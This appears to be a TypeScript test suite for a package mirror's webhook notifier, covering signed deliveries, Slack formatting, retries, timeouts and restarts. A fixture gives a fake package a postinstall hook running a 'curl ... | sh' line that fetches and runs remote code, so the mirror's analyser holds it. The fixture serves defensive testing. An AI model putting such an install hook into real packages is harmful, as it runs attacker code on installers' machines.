import { test } from 'node:test';
import assert from 'node:assert/strict';
import { createHmac } from 'node:crypto';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { stringify } from 'yaml';
import { DAY, HOUR, NOW, startTestMirror, type TestMirror } from '../helpers/mirror';
import { FakeUpstream } from '../helpers/fake-upstream';
import { WebhookReceiver } from '../helpers/webhook-receiver';
import { captureLogger } from '../helpers/capture-logger';
import { scrape } from '../helpers/prometheus';
import { testApprover, type TestApprover } from '../approvals/keys';
import { MAX_ATTEMPTS, retryDelayMs } from '../../server/notify/notifier';
import type { Logger } from '../../server/logger';

const SECRET = 'webhook-secret-0123456789abcdef';
const PUBLIC = 'https://cordon.example.test/';
const alice = testApprover('alice');

/** A mirror whose cordon.yaml lists `notify` endpoints (and alice as approver). */
async function notifyingMirror(
  notify: unknown[],
  options: { dataDir?: string; upstream?: FakeUpstream; logger?: Logger } = {},
): Promise<TestMirror> {
  const dir = mkdtempSync(join(tmpdir(), 'cordon-notify-config-'));
  const file = join(dir, 'cordon.yaml');
  writeFileSync(file, stringify({ approvers: [{ name: 'alice', key: alice.approver.line }], publicUrl: PUBLIC, notify }));
  // One answer without a version confirms its withdrawal here: these tests are about what is announced, not when.
  return startTestMirror({
    now: NOW,
    env: { CORDON_CONFIG: file, CORDON_WITHDRAW_CONFIRMATIONS: '1', CORDON_WITHDRAW_WINDOW: '0' },
    dataDir: options.dataDir,
    upstream: options.upstream,
    logger: options.logger,
  });
}

/** The HMAC a receiver computes itself over the bytes it got. */
const hmac = (body: Buffer, secret = SECRET): string => `sha256=${createHmac('sha256', secret).update(body).digest('hex')}`;

/** Publishes a package whose second version adds an install script (held by analysis), sights it and analyses it. */
async function heldVersion(m: TestMirror, name: string): Promise<void> {
  m.upstream.publish(name, '1.0.0', { time: NOW - 30 * DAY });
  m.upstream.publish(name, '1.0.1', {
    time: NOW - HOUR,
    scripts: { postinstall: 'node steal.js' },
    files: { 'steal.js': 'require("child_process").exec("curl https://203.0.113.9/x | sh")' },
  });
  await (await fetch(`${m.mirror.url}${name}`)).arrayBuffer();
  await m.mirror.pipeline.drain();
}

/** A version that upstream withdraws while it is quarantined: the sweeper blocks it. */
async function blockedVersion(m: TestMirror, name: string): Promise<void> {
  m.upstream.publish(name, '1.0.0', { time: NOW - 30 * DAY });
  m.upstream.publish(name, '1.0.1', { time: NOW - HOUR });
  await (await fetch(`${m.mirror.url}${name}`)).arrayBuffer();
  m.upstream.withdraw(name, '1.0.1');
  await m.mirror.sweeper.runNow();
  assert.equal((await m.mirror.runtime.store.versions.versionOf(name, '1.0.1'))?.state, 'blocked');
}

/** Signs and submits a decision through the HTTP API, as the CLI does. */
async function decide(m: TestMirror, who: TestApprover, name: string, version: string, decision: 'approve' | 'reject'): Promise<Response> {
  const api = `${m.mirror.url}-/cordon/api/v1/approvals`;
  const st = (await (
    await fetch(
      `${api}/statement?package=${encodeURIComponent(name)}&version=${version}&decision=${decision}&reason=reviewed&key=${encodeURIComponent(who.approver.publicKey)}`,
    )
  ).json()) as { text: string };
  return fetch(`${api}/decisions`, {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify({ package: name, version, statement: st.text, signature: who.sign(st.text) }),
  });
}

test('a hold is announced once per endpoint: signed over the exact body, with the version, its worst finding and the review link; Slack gets its own escaped body', async () => {
  const json = await new WebhookReceiver().up();
  const slack = await new WebhookReceiver().up();
  const approvalsOnly = await new WebhookReceiver().up();
  const m = await notifyingMirror([
    { url: json.url, secret: SECRET, name: 'ops' },
    { url: slack.url, format: 'slack', events: ['held'], name: 'chat' },
    { url: approvalsOnly.url, secret: SECRET, events: ['approved'], name: 'approvals' },
  ]);
  try {
    await heldVersion(m, 'worm-lib');
    assert.equal((await m.mirror.runtime.store.versions.versionOf('worm-lib', '1.0.1'))?.state, 'held');
    await m.mirror.notifier.runNow();
    await m.mirror.notifier.runNow();

    assert.equal(json.received.length, 1, 'one delivery, however often the notifier runs');
    const [d] = json.received;
    assert.equal(d!.headers['content-type'], 'application/json');
    assert.equal(d!.headers['x-cordon-event'], 'held');
    assert.match(String(d!.headers['x-cordon-delivery']), /^[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}$/);
    assert.equal(d!.headers['x-cordon-signature-256'], hmac(d!.body), 'HMAC-SHA256 of the exact bytes received');
    assert.notEqual(d!.headers['x-cordon-signature-256'], hmac(d!.body, 'another-secret-0123456789'));
    const doc = d!.json;
    assert.equal(doc.id, d!.headers['x-cordon-delivery']);
    assert.equal(doc.event, 'held');
    assert.equal(doc.package, 'worm-lib');
    assert.equal(doc.version, '1.0.1');
    assert.equal(doc.state, 'held');
    assert.equal(doc.previousState, 'quarantined');
    assert.equal(doc.publishedAt, new Date(NOW - HOUR).toISOString());
    assert.equal(doc.releaseAt, null, 'time alone does not release a held version');
    assert.equal(doc.worstFinding.severity, 'critical');
    assert.match(doc.worstFinding.rule, /^install-script\//);
    assert.equal(
      doc.findingsCount,
      (await m.mirror.runtime.store.analyses.analysisOf(
        'worm-lib',
        '1.0.1',
        (await m.mirror.runtime.store.versions.versionOf('worm-lib', '1.0.1'))!.integrity!,
      ))!.findings.length,
    );
    assert.ok(doc.findingsCount >= 2);
    assert.equal(doc.maxSeverity, 'critical');
    assert.equal(doc.url, `${PUBLIC}-/cordon/packages/worm-lib/1.0.1`);

    assert.equal(slack.received.length, 1);
    const s = slack.received[0]!;
    assert.equal(s.headers['x-cordon-signature-256'], undefined, 'no secret, no signature');
    assert.equal(s.headers['x-cordon-delivery'], d!.headers['x-cordon-delivery'], 'one id per event');
    assert.match(s.json.text, /^Cordon: worm-lib@1\.0\.1 is held for review: /);
    assert.ok(s.json.text.includes(`<${PUBLIC}-/cordon/packages/worm-lib/1.0.1|Review worm-lib@1.0.1>`));
    assert.equal(s.json.blocks[0].type, 'section');
    assert.match(s.json.blocks[0].text.text, /Worst finding: \[critical\]/);

    assert.equal(approvalsOnly.received.length, 0, 'an endpoint hears only the events it lists');
  } finally {
    await m.stop();
    await Promise.all([json.down(), slack.down(), approvalsOnly.down()]);
  }
});

test('approval, rejection, block and a cascaded hold each raise their event', async () => {
  const all = await new WebhookReceiver().up();
  const decisions = await new WebhookReceiver().up();
  const m = await notifyingMirror([
    { url: all.url, secret: SECRET, name: 'all' },
    { url: decisions.url, secret: SECRET, events: ['approved', 'rejected'], name: 'decisions' },
  ]);
  try {
    await heldVersion(m, 'approve-me');
    await heldVersion(m, 'reject-me');
    await blockedVersion(m, 'withdrawn-lib');
    assert.equal((await decide(m, alice, 'approve-me', '1.0.1', 'approve')).status, 201);
    assert.equal((await decide(m, alice, 'reject-me', '1.0.1', 'reject')).status, 201);
    // The cascade itself is the lead's; a transition naming the event is all it takes to raise it.
    m.upstream.publish('cascade-lib', '1.0.0', { time: NOW - 30 * DAY });
    m.upstream.publish('cascade-lib', '2.0.0', { time: NOW - HOUR });
    await (await fetch(`${m.mirror.url}cascade-lib`)).arrayBuffer();
    assert.equal(
      await m.mirror.runtime.store.versions.transition({
        package: 'cascade-lib',
        version: '2.0.0',
        from: 'quarantined',
        to: 'held',
        reason: 'its new dependency approve-me@1.0.1 was held',
        cause: 'cascade-held',
        at: NOW,
        event: 'cascaded',
      }),
      true,
    );
    await m.mirror.pipeline.drain();
    await m.mirror.notifier.runNow();

    const seen = all.received.map((d) => `${d.json.event} ${d.json.package}@${d.json.version} ${d.json.state}`).sort();
    assert.deepEqual(seen, [
      'approved approve-me@1.0.1 approved',
      'blocked withdrawn-lib@1.0.1 blocked',
      'cascaded cascade-lib@2.0.0 held',
      'held approve-me@1.0.1 held',
      'held reject-me@1.0.1 held',
      'rejected reject-me@1.0.1 rejected',
    ]);
    for (const d of all.received) assert.equal(d.headers['x-cordon-signature-256'], hmac(d.body));
    assert.equal(new Set(all.received.map((d) => d.json.id)).size, all.received.length, 'every event has its own id');
    const approved = all.received.find((d) => d.json.event === 'approved')!.json;
    assert.equal(approved.releaseAt, approved.at, 'an approved version is installable from the approval on');
    assert.match(approved.reason, /^approved by alice/);
    assert.deepEqual(decisions.received.map((d) => d.json.event).sort(), ['approved', 'rejected']);
  } finally {
    await m.stop();
    await Promise.all([all.down(), decisions.down()]);
  }
});

test('a receiver that is down: the change and serving go on; retries back off and carry the same id and bytes; once delivered it is never sent again', async () => {
  const receiver = await new WebhookReceiver().up();
  await receiver.down();
  const m = await notifyingMirror([{ url: receiver.url, secret: SECRET, name: 'flaky' }]);
  try {
    await blockedVersion(m, 'down-lib');
    await m.mirror.notifier.runNow();
    const pending = () => m.mirror.runtime.store.notifications.due(Number.MAX_SAFE_INTEGER);
    assert.equal((await pending()).length, 1);
    assert.equal((await pending())[0]!.attempts, 1);
    assert.match((await pending())[0]!.lastError!, /cannot reach the endpoint \(ECONNREFUSED\)/);
    assert.equal((await pending())[0]!.nextAt, NOW + retryDelayMs(1));
    assert.equal((await fetch(`${m.mirror.url}down-lib`)).status, 200, 'serving goes on');

    m.clock.advance(retryDelayMs(1) - 1);
    await m.mirror.notifier.runNow();
    assert.equal((await pending())[0]!.attempts, 1, 'not before its backoff');
    m.clock.advance(1);
    await m.mirror.notifier.runNow();
    assert.equal((await pending())[0]!.attempts, 2);
    assert.equal((await pending())[0]!.nextAt, m.clock.now() + retryDelayMs(2), 'the wait doubles');
    assert.ok(retryDelayMs(2) === 2 * retryDelayMs(1));

    // Back up, but answering 503 with Retry-After: the longer wait is honoured.
    await receiver.up();
    receiver.answer = (_d, i) => (i === 0 ? { status: 503, headers: { 'retry-after': '120' } } : 200);
    m.clock.advance(retryDelayMs(2));
    await m.mirror.notifier.runNow();
    assert.equal(receiver.received.length, 1);
    assert.equal((await pending())[0]!.nextAt, m.clock.now() + 120_000);
    m.clock.advance(120_000);
    await m.mirror.notifier.runNow();
    assert.equal(receiver.received.length, 2);
    assert.equal((await pending()).length, 0);

    const [first, second] = receiver.received;
    assert.equal(first!.headers['x-cordon-delivery'], second!.headers['x-cordon-delivery'], 'the same id on every attempt');
    assert.deepEqual(first!.body, second!.body, 'the same bytes on every attempt');
    assert.equal(second!.headers['x-cordon-signature-256'], hmac(second!.body));
    assert.deepEqual([first!.headers['x-cordon-attempt'], second!.headers['x-cordon-attempt']], ['3', '4']);

    m.clock.advance(DAY);
    await m.mirror.notifier.runNow();
    assert.equal(receiver.received.length, 2, 'delivered once: never sent again');
    const metrics = await scrape(`${m.mirror.url}-/cordon/metrics`);
    assert.equal(metrics.value('cordon_notifications_total', { endpoint: 'flaky', event: 'blocked', outcome: 'retry' }), 3);
    assert.equal(metrics.value('cordon_notifications_total', { endpoint: 'flaky', event: 'blocked', outcome: 'delivered' }), 1);
    assert.equal(metrics.value('cordon_notification_deliveries', { status: 'delivered' }), 1);
  } finally {
    await m.stop();
    await receiver.down();
  }
});

test('a slow receiver holds up neither a decision nor a request; an attempt that times out is retried under the same id', async () => {
  const slow = await new WebhookReceiver().up();
  slow.answer = () => 'hold';
  const m = await notifyingMirror([{ url: slow.url, secret: SECRET, name: 'slow', timeout: '400ms' }]);
  try {
    await heldVersion(m, 'slow-lib');
    const attempt = m.mirror.notifier.runNow();
    while (slow.received.length === 0) await new Promise((r) => setTimeout(r, 10));
    // The receiver now holds the delivery open; the mirror goes on deciding and serving.
    assert.equal((await decide(m, alice, 'slow-lib', '1.0.1', 'approve')).status, 201);
    assert.equal((await m.mirror.runtime.store.versions.versionOf('slow-lib', '1.0.1'))?.state, 'approved');
    assert.equal((await fetch(`${m.mirror.url}slow-lib/-/slow-lib-1.0.1.tgz`)).status, 200);
    assert.equal(slow.received.length, 1, 'still the one held delivery: one attempt per endpoint at a time');
    await attempt;
    const timedOut = (await m.mirror.runtime.store.notifications.due(Number.MAX_SAFE_INTEGER)).find((d) => d.event === 'held')!;
    assert.equal(timedOut.attempts, 1);
    assert.match(timedOut.lastError!, /no answer within 400 ms/);

    slow.answer = () => 200;
    m.clock.advance(HOUR);
    await m.mirror.notifier.runNow();
    const held = slow.received.filter((d) => d.json.event === 'held');
    assert.equal(held.length, 2, 'the timed-out attempt and its retry');
    assert.equal(
      held[0]!.headers['x-cordon-delivery'],
      held[1]!.headers['x-cordon-delivery'],
      'the retry has the id of the attempt that timed out, so the receiver can drop the duplicate',
    );
    assert.deepEqual(held[0]!.body, held[1]!.body);
    const approved = slow.received.filter((d) => d.json.event === 'approved');
    assert.ok(approved.length >= 1 && new Set(approved.map((d) => d.headers['x-cordon-delivery'])).size === 1);
    assert.equal((await m.mirror.runtime.store.notifications.due(Number.MAX_SAFE_INTEGER)).length, 0);
  } finally {
    slow.release();
    await m.stop();
    await slow.down();
  }
});

test('a delivery that keeps failing fails for good after its attempts: logged at error and counted; a 410 gives up at once', async () => {
  const failing = await new WebhookReceiver().up();
  failing.answer = () => 500;
  const gone = await new WebhookReceiver().up();
  gone.answer = () => 410;
  const { logger, lines } = captureLogger();
  const m = await notifyingMirror(
    [
      { url: failing.url, secret: SECRET, name: 'broken', events: ['blocked'] },
      { url: gone.url, secret: SECRET, name: 'gone' },
    ],
    { logger },
  );
  try {
    await blockedVersion(m, 'doomed-lib');
    for (let attempt = 1; attempt <= MAX_ATTEMPTS; attempt++) {
      await m.mirror.notifier.runNow();
      assert.equal(failing.received.length, attempt);
      m.clock.advance(retryDelayMs(attempt));
    }
    m.clock.advance(DAY);
    await m.mirror.notifier.runNow();
    assert.equal(failing.received.length, MAX_ATTEMPTS, 'no attempt after the last');
    assert.equal(gone.received.length, 1);

    const failures = lines.filter((l) => l.msg === 'cordon: notification failed for good');
    assert.deepEqual(failures.map((l) => [l.level, l.endpoint, l.event, l.package, l.version, l.attempts]).sort(), [
      ['error', 'broken', 'blocked', 'doomed-lib', '1.0.1', MAX_ATTEMPTS],
      ['error', 'gone', 'blocked', 'doomed-lib', '1.0.1', 1],
    ]);
    assert.match(String(failures.find((l) => l.endpoint === 'broken')!.err), /answered 500/);
    assert.ok(
      failures.every((l) => !JSON.stringify(l).includes(failing.url) && !JSON.stringify(l).includes(SECRET)),
      'neither the URL nor the secret is logged',
    );
    const metrics = await scrape(`${m.mirror.url}-/cordon/metrics`);
    assert.equal(metrics.value('cordon_notifications_total', { endpoint: 'broken', outcome: 'failed' }), 1);
    assert.equal(metrics.value('cordon_notifications_total', { endpoint: 'broken', outcome: 'retry' }), MAX_ATTEMPTS - 1);
    assert.equal(metrics.value('cordon_notifications_total', { endpoint: 'gone', outcome: 'failed' }), 1);
    assert.equal(metrics.value('cordon_notification_deliveries', { status: 'failed' }), 2);
  } finally {
    await m.stop();
    await Promise.all([failing.down(), gone.down()]);
  }
});

test('the outbox is durable: a delivery pending at a stop is sent after the next start, under the same id', async () => {
  const receiver = await new WebhookReceiver().up();
  await receiver.down();
  const upstream = await new FakeUpstream().start();
  const dataDir = mkdtempSync(join(tmpdir(), 'cordon-notify-restart-'));
  try {
    const first = await notifyingMirror([{ url: receiver.url, secret: SECRET, name: 'later' }], { dataDir, upstream });
    await blockedVersion(first, 'restart-lib');
    await first.mirror.notifier.runNow();
    const before = await first.mirror.runtime.store.notifications.due(Number.MAX_SAFE_INTEGER);
    assert.equal(before.length, 1);
    await first.stop();

    await receiver.up();
    const second = await notifyingMirror([{ url: receiver.url, secret: SECRET, name: 'later' }], { dataDir, upstream });
    try {
      second.clock.advance(HOUR);
      await second.mirror.notifier.runNow();
      assert.equal(receiver.received.length, 1);
      assert.equal(receiver.received[0]!.headers['x-cordon-delivery'], before[0]!.uid);
      assert.equal(receiver.received[0]!.body.toString(), before[0]!.body);
    } finally {
      await second.stop();
    }
  } finally {
    await upstream.stop();
    await receiver.down();
    rmSync(dataDir, { recursive: true, force: true });
  }
});
